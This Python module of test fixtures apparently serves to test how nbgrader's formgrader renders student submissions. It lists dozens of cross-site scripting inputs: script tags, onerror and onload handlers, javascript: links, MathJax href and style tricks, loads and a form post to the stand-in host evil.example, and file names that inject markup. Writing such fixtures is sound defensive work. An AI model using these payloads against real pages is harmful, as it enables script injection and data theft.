r"""What a student might write so that it does something in the teacher's page: for tests of what formgrader shows.

Each calls `alert`, loads something from evil.example, or takes the id of a field for points.  HREF is the plainest
formula that is a link.
"""

PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
TAGS = """a blockquote br code dd del dl dt em h1 h2 h3 h4 h5 h6 hr img input li ol p pre strong table tbody td th
thead tr ul"""  # what Markdown alone makes
# Commands by which MathJax writes into the page what an author wants there, loads more, or makes new commands.
LIVE = """href url class style cssId require unicode mmlToken bbox colorbox fcolorbox ce cf cee pu def gdef let
newcommand renewcommand newenvironment Newextarrow texttip mathtip toggle data includegraphics htmlClass htmlId"""
HREF = r"$\href{javascript:alert(1)}{click}$"

PAYLOADS = {
    # HTML
    "script": "<script>alert(1)</script>",
    "image that fails": "x <img src=x onerror=alert(1)> y",
    "tag over two lines": "<img\nsrc=x\nonerror=alert(1)>",
    "comment": "<!--\n--><svg/onload=alert(1)>",
    "comment that ends at once": "<!--><script>alert(1)</script>",
    "instruction and section": "<?x ?><![CDATA[<b]]><b onclick=alert(1)>b</b>",
    "tag in a quote": "> <div\n> onclick=alert(1)>",
    "table": "| a |\n|---|\n| <a href=javascript:alert(1)>b</a> |",
    "style": "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/a>",
    "frame and form": "<iframe srcdoc='<script>alert(1)</script>'></iframe><form action=//evil.example><input></form>",
    "tag with a null": "<\x00script>alert(1)</script> <a\x00 href=javascript:alert(1)>b</a>",
    "tag with another end of line": "<a\rhref=javascript:alert(1)>b</a>\r\r<script>alert(1)</script>",
    "tag of entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "drawing": '```mermaid\n<img src=x onerror=alert(1)>\nclick A href "javascript:alert(1)"\n```',
    "drawing after tildes": "~~~ \u00a0mermaid\n<svg onload=alert(1)>\n~~~",
    "name of a code's language": '```x"><script>alert(1)</script>\na\n```',
    # links
    "link": "[a](javascript:alert(1))",
    "link with a title": "[a](<javascript:alert(1)> 'title')",
    "link in capitals and entities": "[a](JaVaScrip&#116;:alert(1)) [b](&#106;avascript&colon;alert(1))",
    "link by reference": "[a][b] [b] [b][]\n\n[b]: javascript:alert(1)",
    "reference over two lines": "[a][b]\n\n[b]:\n  javascript:alert(1)\n  'title'",
    "reference in a quote in a list": "[b]\n\n- > [b]: data:text/html,<script>alert(1)</script>",
    "address in angles": "<javascript:alert(1)> <data:text/html,x> <1.b@evil.example> <.@evil.example>",
    "address of formgrader": "http://localhost:8888/formgrader/?path=/tmp <https://hub.example/formgrader/?path=/tmp>",
    "address with quotes": "https://evil.example/\"onmouseover=alert(1)//'>",
    "picture in a link": "[![x](attachment:x.png)](javascript:alert(1))",
    "link that looks like a picture": r"\![x](attachment:x.png) [a ![x](attachment:x.png)](javascript:alert(1))",
    "link to an attachment": "[a `![b` c](attachment:x.png) [a $![b$ c](attachment:x.png)",
    "picture from elsewhere": "![x](https://evil.example/x.png) ![x][y]\n\n[y]: //evil.example/y.png",
    "picture by a script": "![x](javascript:alert(1)) ![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "picture that is lost": "![x](attachment:lost.png)",
    "picture with an attribute": '![x](y "z" onerror=alert(1)) ![a" onerror="alert(1)](attachment:x.png)',
    "files": "[a](files/javascript:alert(1)) <a href='/files/javascript:alert(1)'>b</a>",
    # formulas
    "formula": HREF,
    "formula of entities": "&#36;&#92;&#104;ref{javascript:alert(1)}{click}&#36; &dollar;&bsol;href{x}{y}&dollar;",
    "formula with marks taken away": r"\$\\href{javascript:alert(1)}{click}\$ \\\(\\\href{javascript:alert(1)}{x}\\\)",
    "every kind of formula": r"$$\url{x}$$ \\(\class{score}{x}\\) \\[\style{position:fixed}{x}\\] "
    r"\begin{align}\cssId{notebook}{x}\require{HTML}\end{align}",
    "token": r'$\mmlToken{mi}[href="javascript:alert(1)" class="score" id="notebook"]{x}$ $\unicode{x3c}$',
    "boxes": r"$\bbox[position:fixed;background:url(//evil.example/x)]{x} "
    r"\fcolorbox{red;background:url(//evil.example/d)}{blue;position:fixed}{x}$",
    "formula of pieces": r"$\ce{\hr$ef{javascript:alert(1)}{click}$}$ $\def\x#1{\hr#1}\x{ef{javascript:alert(1)}{q}}$",
    "command and a digit": r"$\href_{javascript:alert(1)}{x} \style1{x}$",
    "formula in a quote": "` " + HREF + " ` and ``\n" + HREF,
    # ids
    "heading": "# ex-6-11-words\n\n- ## ex-6-11-words-comment\n\n> ###ex 1 2 check",
    "heading by a line": "ex-6-11-words\n===\n\n> ex-1-2-check\n> ---\n\n- `notebook`\n  ---\n\nstatusmessage\n-",
    "heading in a definition": "a\n: # ex-6-11-words\n\n1. # ex-1-2-check\n\n* + - #### statusmessage",
}

NAMES = [
    "x.png) [solution](javascript:alert(document.domain)",
    "x.png](javascript:alert(1)) ![x",
    'x.png" onerror="alert(1)',
    "x.png><script>alert(1)</script>",
    "x.png&#41; [a](javascript:alert(1)",
    "x.png\n\n[a]: javascript:alert(1)",
    "x.png\n",
    "x y.png",
    "bild-\u00fc.png",
    "../x.png",
    "",
]
